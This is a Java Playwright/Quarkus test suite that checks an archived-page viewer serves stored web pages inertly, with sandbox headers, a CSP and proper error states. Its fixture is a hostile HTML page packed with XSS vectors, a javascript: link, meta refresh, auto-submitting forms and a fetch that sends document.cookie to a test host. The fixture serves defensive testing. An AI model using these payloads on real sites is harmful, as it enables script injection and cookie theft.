package org.claimwatch.web.article;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.PlaywrightAssertions;
import com.microsoft.playwright.options.WaitUntilState;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.net.URI;
import java.util.List;
import org.awaitility.Awaitility;
import org.claimwatch.web.support.ArchiveServer;
import org.claimwatch.web.support.AsAda;
import org.claimwatch.web.support.Browser;
import org.claimwatch.web.support.Outside;
import org.claimwatch.web.support.Press;
import org.claimwatch.web.support.Shelf;
import org.jspecify.annotations.NullUnmarked;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The page as it was fetched is evidence; nothing in it may act. */
@NullUnmarked // Quarkus fills the fields
@QuarkusTest
@AsAda
class ArchivePagesTest {
    @Inject
    Press press;

    @Inject
    Shelf shelf;

    @TestHTTPResource("/")
    URI home;

    private long article;
    private String path;

    @BeforeEach
    void put() {
        press.gold();
        article = press.article("hal-0909-kessa-shelling");
        path = "/articles/" + article + "/versions/1/archived";
    }

    @AfterEach
    void clear() {
        shelf.clear();
    }

    @Test
    void says_what_it_is_and_offers_the_file() {
        shelf.put(article, "<p>The page.</p>");
        Response frame = given().get(path);
        assertThat(frame.statusCode()).isEqualTo(200);
        assertThat(frame.asString())
                .contains("https://outlet.example/page?of=" + article)
                .contains("9 Sep 2025, 14:05 UTC")
                .contains("48 KB", "answered 200, <code>text/html", "0a0a0a0a")
                .contains("<iframe class=\"archived\" src=\"" + path + "/page\" sandbox");
        Response file = given().get(path + "/warc");
        assertThat(file.contentType()).isEqualTo("application/warc");
        assertThat(file.header("Content-Disposition"))
                .isEqualTo("attachment; filename=\"article-%d-version-1.warc.gz\"".formatted(article));
        assertThat(given().get("/articles/" + article + "?version=1").asString())
                .contains("href=\"" + path + "\">archived page</a>");
    }

    @Test
    void comes_with_headers_under_which_nothing_runs() {
        shelf.put(article, "<p>صدى</p>");
        Response page = given().get(path + "/page");
        assertThat(page.headers().getValues("Content-Security-Policy")).hasSize(1);
        assertThat(page.header("Content-Security-Policy"))
                .startsWith("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:;");
        assertThat(page.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(page.header("Content-Type")).isEqualToIgnoringCase("text/html;charset=UTF-8");
        assertThat(page.headers().getValues("Set-Cookie")).isEmpty();
        assertThat(new String(page.asByteArray(), java.nio.charset.StandardCharsets.UTF_8))
                .isEqualTo("<p>صدى</p>");
    }

    @Test
    void each_page_of_an_article_on_several_can_be_reached() {
        shelf.put(article, "<p>One.</p>");
        assertThat(given().get(path).asString()).doesNotContain("Pages of the article");
        shelf.following(article, "<p>Two.</p>");
        assertThat(given().get(path).asString())
                .contains("<a href=\"" + path + "?of=2\">Page 2</a>", "of all 2 pages")
                .contains("The text ends before the article does: page 3 was not read: robots.txt disallows it.");
        assertThat(given().get(path + "?of=2").asString())
                .contains("<span aria-current=\"page\">Page 2</span>", "<a href=\"" + path + "\">Page 1</a>")
                .contains("src=\"" + path + "/page?of=2\"", "https://outlet.example/page/2");
        assertThat(given().get(path + "/page").asString()).isEqualTo("<p>One.</p>");
        assertThat(given().get(path + "/page?of=2").asString()).isEqualTo("<p>Two.</p>");
        for (String none : List.of("?of=3", "?of=0", "/page?of=3", "/page?of=-1")) {
            assertThat(given().get(path + none).statusCode()).as(none).isEqualTo(404);
        }
    }

    @Test
    void is_told_apart_from_what_is_missing_lost_changed_or_away() {
        assertThat(given().get(path).asString()).contains("was not archived").doesNotContain("<iframe");
        assertThat(given().get("/articles/" + article + "/versions/99/archived").statusCode())
                .isEqualTo(404);
        long version = shelf.version(article);
        shelf.row(article, version);
        ArchiveServer.answer(version, 410);
        assertThat(given().get(path).asString())
                .contains("no longer holds this page")
                .doesNotContain("<iframe");
        ArchiveServer.answer(version, 409);
        assertThat(given().get(path).asString()).contains("its digest differs").doesNotContain("<iframe");
        ArchiveServer.answer(version, 503);
        Response away = given().get(path);
        assertThat(away.statusCode()).isEqualTo(503);
        assertThat(away.asString()).contains("cannot be reached now. Try again").doesNotContain("<iframe");
        assertThat(given().get(path + "/page").statusCode()).isEqualTo(503);
        assertThat(given().get(path + "/warc").statusCode()).isEqualTo(503);
    }

    @Test
    void nothing_in_it_runs_loads_leads_away_or_sends_a_form() {
        // Two, for what the unguarded page began may still arrive when it is closed.
        try (Outside acted = new Outside();
                Outside outside = new Outside();
                Browser browser = Browser.open()) {
            try (Page unguarded = browser.chromium().newPage()) {
                unguarded.setContent(
                        hostile(acted.base()), new Page.SetContentOptions().setWaitUntil(WaitUntilState.COMMIT));
                Awaitility.await("the same page unguarded acts").until(() -> acted.connections() > 3);
            }
            String hostile = hostile(outside.base());
            shelf.put(article, hostile);
            for (String address : new String[] {path, path + "/page"}) {
                try (Page page = browser.chromium().newPage()) {
                    page.navigate(home.resolve(address).toString());
                    FrameLocator frame = address.equals(path) ? page.frameLocator("iframe.archived") : null;
                    Locator end = frame == null ? page.locator("#end") : frame.locator("#end");
                    PlaywrightAssertions.assertThat(end).hasText("untouched");
                    Locator send = frame == null ? page.locator("#send") : frame.locator("#send");
                    send.click();
                    Locator script = frame == null ? page.locator("#script") : frame.locator("#script");
                    script.click();
                    page.waitForTimeout(1_500);
                    PlaywrightAssertions.assertThat(end).hasText("untouched");
                    assertThat(page.url()).isEqualTo(home.resolve(address).toString());
                    assertThat(page.context().pages()).hasSize(1);
                    assertThat(outside.connections())
                            .as("connections from " + address)
                            .isZero();
                }
            }
        }
    }

    private static String hostile(String outside) {
        return """
                <!doctype html><html><head><meta charset="utf-8"><base href="%1$s/base/" target="_top">
                <meta http-equiv="refresh" content="0;url=%1$s/refresh">
                <meta http-equiv="Content-Security-Policy" content="script-src *">
                <link rel="preconnect" href="%1$s"><link rel="dns-prefetch" href="%1$s">
                <link rel="prefetch" href="%1$s/prefetch"><link rel="preload" as="script" href="%1$s/preload.js">
                <link rel="modulepreload" href="%1$s/module.js"><link rel="prerender" href="%1$s/prerender">
                <link rel="stylesheet" href="%1$s/style.css"><link rel="icon" href="%1$s/icon.png">
                <link rel="manifest" href="%1$s/manifest.json">
                <style>@import url(%1$s/import.css); body { background: url(%1$s/background.png) }
                @font-face { font-family: x; src: url(%1$s/font.woff2) } p { font-family: x }</style>
                <script src="%1$s/script.js"></script>
                <script>document.addEventListener('DOMContentLoaded', () => {
                  document.getElementById('end').textContent = 'ran'; new Image().src = '%1$s/image';
                  fetch('%1$s/fetch?' + document.cookie); top.location = '%1$s/top'; });</script>
                <script type="speculationrules">{"prefetch":[{"source":"list","urls":["%1$s/speculation"]}]}</script>
                </head><body onload="document.getElementById('end').textContent='ran'">
                <p>Text <img src="%1$s/x.png" onerror="document.getElementById('end').textContent='ran'">
                <img src="relative.png" srcset="%1$s/set.png 2x"><picture><source srcset="%1$s/picture.png"><img></picture></p>
                <svg xmlns="http://www.w3.org/2000/svg" onload="document.getElementById('end').textContent='ran'" width="9" height="9">
                <script>document.getElementById('end').textContent='ran'</script><image href="%1$s/svg.png" width="9" height="9"/>
                <use href="%1$s/use.svg#a"/><animate onbegin="document.getElementById('end').textContent='ran'" attributeName="x" dur="1s"/></svg>
                <iframe src="%1$s/frame" width="9" height="9"></iframe><iframe srcdoc="<script>parent.end.textContent='ran'</script>" width="9" height="9"></iframe>
                <object data="%1$s/object" width="9" height="9"></object><embed src="%1$s/embed" width="9" height="9">
                <video src="%1$s/video" autoplay width="9" height="9"></video><audio src="%1$s/audio" autoplay></audio>
                <form action="%1$s/form" target="_blank"><input autofocus onfocus="this.form.submit()" name="a">
                <button id="send">Send</button></form>
                <p><a id="script" target="_self" href="javascript:document.getElementById('end').textContent='ran'">script</a></p>
                <p id="end">untouched</p></body></html>
                """.formatted(outside);
    }
}
